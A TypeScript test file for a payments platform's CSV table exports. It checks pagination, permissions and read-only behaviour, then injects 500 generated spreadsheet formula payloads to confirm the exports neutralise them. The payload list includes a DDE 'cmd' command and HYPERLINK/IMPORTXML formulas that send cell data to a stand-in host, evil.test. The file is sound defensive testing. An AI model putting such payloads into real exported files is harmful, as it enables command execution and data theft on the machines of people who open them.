import {
  exportTable,
  runReconciliation,
  type Scope,
  type TableExport,
  tableExports,
} from "@evenshare/application";
import { withAdmin } from "@evenshare/database/testing";
import { csvLine } from "@evenshare/domain";
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { createBrand, createProducer, draftedMilestone, must, startedPartnership } from "../src";
import {
  acceptWork,
  agreedMilestone,
  fund,
  payablePartnership,
  submitWork,
  useMoneyWorld,
} from "./support/money-world";
import { importFile, retailRow } from "./support/revenue-case";

const world = useMoneyWorld();
let people: {
  readonly brand: Scope;
  readonly producer: Scope;
  readonly milestoneId: string;
  readonly importId: string;
};

beforeAll(async () => {
  const partnership = await payablePartnership(world());
  const milestoneId = await agreedMilestone(world(), partnership, { title: '=1+1, "quoted"' });
  await fund(world(), partnership, milestoneId, 50_000n);
  await submitWork(world(), partnership, milestoneId);
  await acceptWork(world(), partnership, milestoneId);
  await runReconciliation(world().deps);
  await placeProviderNews(partnership, milestoneId);
  const { id: importId } = await importFile(world(), partnership.brand, [
    retailRow("=1+1", "@A"),
    retailRow("2", "B", "x"),
  ]);
  people = { ...partnership, milestoneId, importId };
}, 120_000);

/** A hold, a saved card and a failed refund, as the provider's news leaves them. */
function placeProviderNews(
  { id: partnershipId, brand }: { readonly id: string; readonly brand: Scope },
  milestoneId: string,
): Promise<void> {
  return withAdmin(world().databaseUrl, async (client) => {
    await client.query(
      `insert into hold (id, partnership_id, milestone_id, subject, subject_id, amount, currency, reason, words, owner_kind,
         owner_name, evidence, placed_at, next_at)
       values (gen_random_uuid(), $1, $2, 'return', gen_random_uuid(), 700, 'GBP', 'card_payment_disputed',
         '=1+1, says the bank', 'provider', 'Stripe', array['dispute dp_1'], now(), now())`,
      [partnershipId, milestoneId],
    );
    await client.query(
      `insert into payment_method (id, organization_id, provider_method_id, kind, label, last4, exp_month, exp_year,
         limit_amount, limit_currency, created_at, created_by_name)
       values (gen_random_uuid(), $1, 'pm_1', 'card', 'Visa', '4242', 12, 2040, 5000, 'GBP', now(), '+Finance')`,
      [brand.organizationId],
    );
    await client.query(
      `insert into refund (id, partnership_id, milestone_id, funding_id, cause, amount, fee, currency, status, reason,
         created_at, settled_at)
       select gen_random_uuid(), partnership_id, milestone_id, id, 'remainder', 300, 8, 'GBP', 'failed',
         '@the bank said no', now(), now() from funding where milestone_id = $1`,
      [milestoneId],
    );
  });
}

/** Who downloads a table, and of what. */
function askFor(name: string): { readonly scope: Scope; readonly filter: Record<string, string> } {
  const scope = name === "payouts" || name === "reconciliation" ? people.producer : people.brand;
  if (name === "revenue-faults") return { scope, filter: { importId: people.importId } };
  const ofMilestone = ["fundings", "releases", "moved-money"].includes(name);
  return { scope, filter: ofMilestone ? { milestoneId: people.milestoneId } : {} };
}

async function download(table: TableExport, scope: Scope, filter: Record<string, string>): Promise<string> {
  let text = "";
  for await (const line of must(await exportTable(world().deps, scope, table, filter))) text += line;
  return text;
}

/** As a program reads the file, the quote that keeps text from being run taken away. */
function readBack(text: string): string[][] {
  const rows: string[][] = parse(text, { record_delimiter: "\r\n" });
  return rows.map((cells) => cells.map((cell) => (cell.startsWith("'") ? cell.slice(1) : cell)));
}

/** Everything that is stored, as one text. */
function everything(): Promise<string> {
  return withAdmin(world().databaseUrl, async (client) => {
    const { rows } = await client.query<{ name: string }>(
      "select quote_ident(tablename) as name from pg_tables where schemaname = 'public' order by 1",
    );
    let text = "";
    for (const { name } of rows) {
      const answer = await client.query<{ sum: string }>(
        `select md5(coalesce(string_agg(t::text || xmin, '|' order by t::text), '')) as sum from ${name} t`,
      );
      text += `${name} ${answer.rows[0]?.sum}\n`;
    }
    return text;
  });
}

describe("every table as a file", () => {
  it("C12 F128: changes nothing that is stored", async () => {
    const before = await everything();
    for (const table of tableExports) {
      const { scope, filter } = askFor(table.name);
      const lines = (await download(table, scope, filter)).split("\r\n");
      expect(lines.length, table.name).toBeGreaterThan(2);
    }
    expect(await everything()).toBe(before);
  });

  it("C37: says of a payout when it was made, expected and paid, as machines read it", async () => {
    const table = tableExports.find(({ name }) => name === "payouts");
    if (table === undefined) throw new Error("payouts cannot be downloaded");
    await withAdmin(world().databaseUrl, (client) =>
      client.query("update payout set status = 'paid', paid_at = '2026-11-25T09:30:00Z'"),
    );
    const text = await download(table, people.producer, {});
    const rows: Record<string, string>[] = parse(text, { columns: true, record_delimiter: "\r\n" });
    expect(rows).toMatchObject([
      {
        Created: "2026-11-23T10:00:00.000Z",
        "Paid at": "2026-11-25T09:30:00.000Z",
        State: "paid",
        Milestone: `'=1+1, "quoted"`,
        "To you": "500.00",
        "Payout amount": "500.00",
        Currency: "GBP",
      },
    ]);
  });

  it("F128: gives all pages, in the order of the screen", async () => {
    const { deps, clock } = world();
    const partnership = await startedPartnership(deps);
    for (let index = 0; index < 103; index += 1) {
      clock.advanceBy(1_000);
      await draftedMilestone(deps, partnership.brand, partnership.id, { title: `Nr ${index}` });
    }
    const table = tableExports.find(({ name }) => name === "milestones");
    if (table === undefined) throw new Error("milestones cannot be downloaded");
    const rows = readBack(await download(table, partnership.brand, {}));
    expect(rows.slice(1).map(([title]) => title)).toEqual(
      Array.from({ length: 103 }, (_, index) => `Nr ${102 - index}`),
    );
    const drafts = readBack(await download(table, partnership.brand, { states: "proposed,agreed" }));
    expect(drafts).toHaveLength(1);
  }, 60_000);

  it("F2: is refused as its screen is", async () => {
    const { deps } = world();
    const stranger = await createProducer(deps);
    for (const table of tableExports) {
      const { filter } = askFor(table.name);
      const answer = await exportTable(deps, stranger, table, filter);
      if (table.permission === "payment_method.read" || table.permission === "revenue.read") {
        // Only brands have them; a producer is refused.
        expect(answer).toMatchObject({ failure: { code: "permission.denied" } });
        await expectNothingForStrangers(table, filter);
        continue;
      }
      if (filter["milestoneId"] === undefined) {
        const text = await download(table, stranger, filter);
        expect(text.split("\r\n"), table.name).toHaveLength(2);
      } else {
        expect(answer, table.name).toMatchObject({ failure: { code: "milestone.not_found" } });
      }
      const unknown = await exportTable(deps, stranger, table, { ...filter, colour: "red" });
      expect(unknown, table.name).toMatchObject({ failure: { code: "input.invalid" } });
      if (table.permission === "reconciliation.read") {
        const viewer = { ...stranger, role: "viewer" } as const;
        expect(await exportTable(deps, viewer, table, filter)).toMatchObject({
          failure: { code: "permission.denied" },
        });
      }
    }
  });
});

/** A stranger's brand has none of its own, and what it asks for by id does not exist. */
async function expectNothingForStrangers(table: TableExport, filter: Record<string, string>): Promise<void> {
  const stranger = await createBrand(world().deps);
  if (filter["importId"] === undefined)
    expect((await download(table, stranger, filter)).split("\r\n"), table.name).toHaveLength(2);
  else
    expect(await exportTable(world().deps, stranger, table, filter)).toMatchObject({
      failure: { code: "revenue_import.not_found" },
    });
}

/** What a spreadsheet may run when it opens a file, with everything that breaks a line or a cell. */
const payloads: readonly string[] = (() => {
  const starts = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "'=", '"=', " ="];
  const bodies = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.test/?"&A1,"Click")',
    'IMPORTXML("https://evil.test","//a")',
    "SUM(A1:A9)*2",
    "A1,B1",
    'A1\r\n=2+2,"x"',
    "DDE(0,0)",
  ];
  const all = starts.flatMap((start) =>
    bodies.flatMap((body) => ["", " ", "é", ";", "\u200b"].map((end) => start + body + end)),
  );
  return all.slice(0, 500);
})();

/** The same row with a payload in place of every text in it, however deep, except the currency. */
function poison(value: unknown, payload: string): unknown {
  if (typeof value === "string") return payload;
  if (Array.isArray(value)) return value.map((item) => poison(item, payload));
  if (value === null || typeof value !== "object" || value instanceof Date) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, item]) => [
      key,
      key.toLowerCase().endsWith("currency") ? item : poison(item, payload),
    ]),
  );
}

describe("500 formulas in every text of every table", () => {
  it.each(tableExports.map((table) => [table.name, table] as const))(
    "R17: none opens as a formula in %s, and all are read back as they were",
    async (name, table) => {
      expect(payloads).toHaveLength(500);
      const { scope, filter } = askFor(name);
      const [row] = must(await table.read(world().deps, scope, filter, null)).items;
      expect(row).toBeDefined();
      for (const payload of payloads) {
        const cells = table.columns.map((column) => column.cell(poison(row, payload)));
        expect(
          cells.filter((cell) => typeof cell === "string" && cell.includes(payload)).length,
        ).toBeGreaterThan(0);
        const line = csvLine(cells);
        const [read]: string[][] = parse(line, { record_delimiter: "\r\n" });
        for (const cell of read ?? []) {
          if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
        }
        expect(readBack(line)).toEqual([
          cells.map((cell) => (typeof cell === "string" ? cell : (cell?.figure ?? ""))),
        ]);
      }
    },
  );
});
